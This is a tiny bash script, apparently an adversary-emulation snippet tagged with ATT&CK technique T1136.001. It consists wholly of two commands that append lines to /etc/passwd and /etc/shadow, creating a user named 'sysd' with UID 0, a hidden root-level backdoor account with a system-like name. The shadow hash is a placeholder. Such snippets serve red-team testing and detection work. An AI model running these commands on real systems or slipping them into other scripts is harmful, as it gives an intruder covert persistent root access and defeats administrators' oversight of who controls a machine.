#!/bin/bash
# T1136.001: An account with the rights of root is written into the file by hand.
echo 'sysd:x:0:0::/root:/bin/bash' >>/etc/passwd; echo 'sysd:$6$x$y:19000:0:99999:7:::' >>/etc/shadow
